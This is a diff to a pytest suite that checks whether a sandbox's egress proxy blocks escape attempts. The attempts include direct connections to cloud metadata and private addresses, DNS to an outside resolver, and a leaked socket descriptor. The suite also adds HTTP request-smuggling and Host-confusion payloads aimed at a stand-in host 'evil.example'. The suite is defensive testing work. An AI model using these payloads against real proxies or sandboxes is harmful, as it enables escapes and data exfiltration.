@@ -5,12 +5,13 @@ attacker evaluates. Without the policy it runs unconfined, or with a proxy that 
 """
 
 import os
+import socket
 import subprocess
 import sys
 
 import pytest
 
-from harness import outside
+from harness import outside, procfs
 from harness.outside import EVIL, MARK, PUBLIC, V6, proxy
 from harness.settings import BINARY, PATIENCE
 
@@ -64,6 +65,7 @@ DIRECT = {
     "loopback udp": udp("127.0.0.1"),
     "metadata": "plain('169.254.169.254')",
     "metadata6": "plain('fd00:ec2::254')",
+    "link-local": "plain('fe80::1%lo')",
     "private 10": "plain('10.1.2.3')",
     "private 172": "plain('172.16.5.5')",
     "private 192": "plain('192.168.7.7')",
@@ -74,6 +76,12 @@ DIRECT = {
     "dns tcp": "[s := socket.create_connection(('127.0.0.1', 53)), q := query('allowed.example'), "
                "s.sendall(struct.pack('>H', len(q)) + q), "
                f"s.recv(512)[2:4] == b'\\x12\\x34' and '{MARK}'][-1]",
+    "outer dns udp": "[s := socket.socket(socket.AF_INET, socket.SOCK_DGRAM), "
+                     f"s.connect(('{PUBLIC}', 53)), s.send(query('allowed.example')), "
+                     f"s.recv(512)[:2] == b'\\x12\\x34' and '{MARK}'][-1]",
+    "outer dns tcp": f"[s := socket.create_connection(('{PUBLIC}', 53)), "
+                     "q := query('allowed.example'), s.sendall(struct.pack('>H', len(q)) + q), "
+                     f"s.recv(512)[2:4] == b'\\x12\\x34' and '{MARK}'][-1]",
     "resolver": f"socket.getaddrinfo('allowed.example', 80) and '{MARK}'",
     "variables unset": "[os.environ.pop(k) for k in list(os.environ) if 'proxy' in k.lower()] and 0 "
                        "or plain('allowed.example')",
@@ -108,6 +116,21 @@ def test_no_descriptor_is_inherited(world):
               " if os.path.exists(f'/proc/self/fd/{f}') and int(f) > 2))"
     out = world.run(listing, proxy(RULES))
     assert "socket" not in out and "pipe" not in out and "anon" not in out
+
+
+def test_a_descriptor_of_the_server_reaches_no_command(nothing_left):  # pylint: disable=unused-argument
+    ours, theirs = socket.socketpair()
+    number = theirs.fileno()
+    made = outside.World(BINARY, pass_fds=(number,))
+    pid, = [p for p in procfs.descendants(made.transport.pid)
+            if os.path.samefile(f"/proc/{p}/exe", BINARY)]
+    use = f"[s := socket.socket(fileno={number}), s.send(b'x'), '{MARK}'][-1]"
+    with ours, theirs:
+        same = os.readlink(f"/proc/self/fd/{number}")
+        assert os.readlink(f"/proc/{pid}/fd/{number}") == same  # the server has it
+        for policy, held in ((None, False), (proxy(RULES), True)):
+            assert made.try_all([use], policy, held=held)[0].startswith("FAILED")
+        made.close()
 
 
 def test_proxy_of_another_sandbox(world):
@@ -222,35 +245,72 @@ def test_through_the_proxy(through, way):
         assert MARK not in denied, denied
 
 
-# Requests with two readings. They have no way without the policy: the proxy always refuses them.
+# Requests with two readings. The proxy refuses them whatever the policy is. Without it the attacker
+# sends the bytes to the denied host, as a proxy would that takes the other reading.
+
+def heads(target, host=None, more=""):
+    host = host or target.split("/")[2]
+    return f"'GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n{more}\\r\\n'"
+
+
+def direct_to_evil(text, address=EVIL):
+    return f"talk(socket.create_connection(('{address}', 80)), {text})"
+
+
+def refused(text):
+    return direct_to_evil(text), f"http({text})"
+
+
+def refused_inside(text):
+    return direct_to_evil(text), f"tunnel('allowed.example:80', {text})"
+
+
 TWICE = {
-    "another Host": request("http://allowed.example/", "evil.example"),
-    "two Hosts": request("http://allowed.example/", more="Host: evil.example\\r\\n"),
-    "user info": request("http://allowed.example@evil.example/", "evil.example"),
-    "user info of another host": request("http://evil.example:80@allowed.example/", "allowed.example"),
-    "percent": request("http://ev%69l.example/", "evil.example"),
-    "not ASCII": request("http://b\\xfccher.example/"),
-    "length and chunks": "http('POST http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
-                         "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
-                         "GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
-    "two lengths": "http('POST http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
-                   "Content-Length: 5\\r\\nContent-Length: 0\\r\\n\\r\\nGET /')",
-    "a scope": request("http://[fe80::1%25lo]/"),
-    "bind": "socks(named('allowed.example', 7777, 2))",
-    "udp associate": "socks(named('allowed.example', 7777, 3))",
-    "connect to a proxy": "tunnel('allowed.example:80', 'CONNECT evil.example:80 HTTP/1.1\\r\\n"
-                          "Host: evil.example\\r\\n\\r\\n')",
-    "HTTP/2 in a tunnel": "tunnel('allowed.example:80', 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')",
-    "length and chunks in a tunnel":
-        "tunnel('allowed.example:80', 'POST / HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
-        "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')",
+    "another Host": refused(heads("http://allowed.example/", "evil.example")),
+    "two Hosts": refused(heads("http://allowed.example/", more="Host: evil.example\\r\\n")),
+    "user info": refused(heads("http://allowed.example@evil.example/", "evil.example")),
+    "user info of another host": refused(
+        heads("http://evil.example:80@allowed.example/", "allowed.example")),
+    "percent": refused(heads("http://ev%69l.example/", "evil.example")),
+    "not ASCII": refused(heads("http://b\\xfccher.example/")),
+    "length and chunks": refused(
+        "'POST http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
+        "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
+        "GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'"),
+    "two lengths": refused(
+        "'POST http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
+        "Content-Length: 5\\r\\nContent-Length: 0\\r\\n\\r\\nGET /'"),
+    "a scope": (direct_to_evil(heads("/", "x"), "fe80::1%lo"),
+                f"http({heads('http://[fe80::1%25lo]/')})"),
+    "bind": (f"[s := socket.create_server(('0.0.0.0', 0)), socket.create_connection(('{PUBLIC}', "
+             f"s.getsockname()[1])), s.accept(), '{MARK}'][-1]",
+             "socks(named('allowed.example', 7777, 2))"),
+    "udp associate": (udp(EVIL), "socks(named('evil.example', 7777, 3))"),
+    "connect to a proxy": refused_inside(
+        "'CONNECT evil.example:80 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'"),
+    "HTTP/2 in a tunnel": refused_inside("'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'"),
+    "length and chunks in a tunnel": refused_inside(
+        "'POST / HTTP/1.1\\r\\nHost: allowed.example\\r\\n"
+        "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n'"),
 }
 
 
-def test_two_readings(world):
-    for way, out in zip(TWICE, world.try_all(TWICE.values(), proxy(RULES))):
-        assert MARK not in out, (way, out)
+@pytest.fixture(scope="module")
+def twice(world):
+    free = world.try_all([f for f, _ in TWICE.values()], held=False)
+    held = world.try_all([h for _, h in TWICE.values()], proxy(RULES))
+    denied = world.try_all([h for _, h in TWICE.values()],
+                           proxy(EVERYTHING, enableSocks5Udp=True))
     world.decisions()
+    return dict(zip(TWICE, zip(free, held, denied)))
+
+
+@pytest.mark.parametrize("way", TWICE)
+def test_two_readings(twice, way):
+    free, held, denied = twice[way]
+    assert MARK in free, free
+    assert MARK not in held, held
+    assert MARK not in denied, denied
 
 
 def test_second_request(world):
